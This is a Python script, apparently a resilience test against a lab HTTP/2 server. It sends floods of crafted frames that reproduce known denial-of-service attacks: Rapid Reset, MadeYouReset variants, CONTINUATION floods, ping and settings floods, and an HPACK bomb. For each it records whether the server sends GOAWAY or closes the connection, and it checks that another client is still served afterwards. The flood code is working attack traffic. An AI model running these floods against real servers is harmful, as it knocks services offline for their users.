"""Floods of HTTP/2 frames, each until the server ends the connection."""
from wire import *

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def request(path=b"/"):
    """GET https://www.lab.test/ in HPACK, without indexing."""
    name = b"www.lab.test"
    target = b"\x84" if path == b"/" else b"\x04" + bytes([len(path)]) + path
    return b"\x82\x87" + target + b"\x01" + bytes([len(name)]) + name


class Session:
    def __init__(self, t):
        self.stream = secure(t["https"], t["ca"], ["h2"])
        assert self.stream.selected_alpn_protocol() == "h2"
        self.stream.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.buffer, self.frames, self.error, self.closed = b"", [], None, False

    def send(self, data):
        try:
            self.stream.sendall(data)
        except (OSError, ConnectionError):
            self.closed = True

    def read(self, limit):
        """Takes frames until GOAWAY, the end, or the time limit."""
        deadline = time.monotonic() + limit
        while self.error is None and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.stream.settimeout(left)
            try:
                piece = self.stream.recv(65536)
            except socket.timeout:
                return
            except (OSError, ConnectionError):
                piece = b""
            if not piece:
                self.closed = True
                return
            self.buffer += piece
            self.parse()

    def parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags, number = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big")
            body, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            self.frames.append((kind, flags, number, body))
            if kind == GOAWAY and int.from_bytes(body[4:8], "big"):
                self.error = int.from_bytes(body[4:8], "big")

    def flood(self, make, count=20000, batch=50):
        """Sends what `make` gives for stream 1, 3, 5 …, reading between; how many were sent before the end."""
        sent = 0
        while sent < count and self.error is None and not self.closed:
            self.send(b"".join(make(2 * (sent + i) + 1) for i in range(batch)))
            sent += batch
            self.read(0.01)
        self.read(5)
        self.stream.settimeout(5)
        if not self.closed:
            self.closed = until_closed(self.stream, 15)[1]
        return {
            "sent": sent, "goaway": self.error, "closed": self.closed,
            "answers": sum(1 for k, _, _, _ in self.frames if k == HEADERS),
            "refused": sum(1 for k, _, _, b in self.frames if k == RST and b == b"\0\0\0\x07"),
        }


t = told()
result = {}
ALL = 0x4 | 0x1

# CVE-2023-44487: open and reset at once.
result["rapid reset"] = Session(t).flood(
    lambda n: frame(HEADERS, ALL, n, request()) + frame(RST, 0, n, b"\0\0\0\x08"))
# CVE-2025-8671: make the server reset what it has begun to answer.
result["made you reset: zero window increment"] = Session(t).flood(
    lambda n: frame(HEADERS, ALL, n, request()) + frame(WINDOW, 0, n, b"\0\0\0\0"))
result["made you reset: window overflow"] = Session(t).flood(
    lambda n: frame(HEADERS, ALL, n, request()) + frame(WINDOW, 0, n, b"\x7f\xff\xff\xff"))
result["made you reset: data after the end"] = Session(t).flood(
    lambda n: frame(HEADERS, ALL, n, request()) + frame(DATA, 0, n, b"x"))
result["made you reset: priority of wrong length"] = Session(t).flood(
    lambda n: frame(HEADERS, ALL, n, request()) + frame(PRIORITY, 0, n, b"\0\0\0"))
# CVE-2024-27316 and kin: a head without an end.
session = Session(t)
session.send(frame(HEADERS, 0x1, 1, request()))
result["continuation"] = session.flood(lambda n: frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100))
session = Session(t)
session.send(frame(HEADERS, 0x1, 1, request()))
result["empty continuation"] = session.flood(lambda n: frame(CONTINUATION, 0, 1))
# CVE-2019-9512, 9515, 9518: frames that cost an answer and carry nothing.
result["ping"] = Session(t).flood(lambda n: frame(PING, 0, 0, b"12345678"))
result["settings"] = Session(t).flood(lambda n: frame(SETTINGS, 0, 0))
# A small block that unpacks to a large head.
session = Session(t)
big = b"\x40\x01a" + b"\x7f" + bytes([0x80 | ((4000 - 127) & 127), (4000 - 127) >> 7]) + b"b" * 4000
result["hpack bomb"] = session.flood(
    lambda n: frame(HEADERS, ALL, n, request() + big + b"\xbe" * 2000), count=200, batch=1)

# More streams at once than are granted, held open by a window of zero: refused, and the rest are answered.
session = Session(t)
session.send(frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00"))
session.send(b"".join(frame(HEADERS, ALL, 2 * i + 1, request()) for i in range(150)))
session.read(2)
granted = next((int.from_bytes(b[i + 2:i + 6], "big") for k, f, _, b in session.frames if k == SETTINGS and not f & 1
                for i in range(0, len(b), 6) if b[i:i + 2] == b"\x00\x03"), None)
result["streams"] = {
    "granted": granted, "answers": sum(1 for k, _, _, _ in session.frames if k == HEADERS),
    "refused": sum(1 for k, _, _, b in session.frames if k == RST and b == b"\0\0\0\x07"),
}
# And after all that another client is served.
session = Session(t)
session.send(frame(HEADERS, ALL, 1, request()))
session.read(3)
result["after"] = {"served": any(k == HEADERS for k, _, _, _ in session.frames)}
tell(**result)
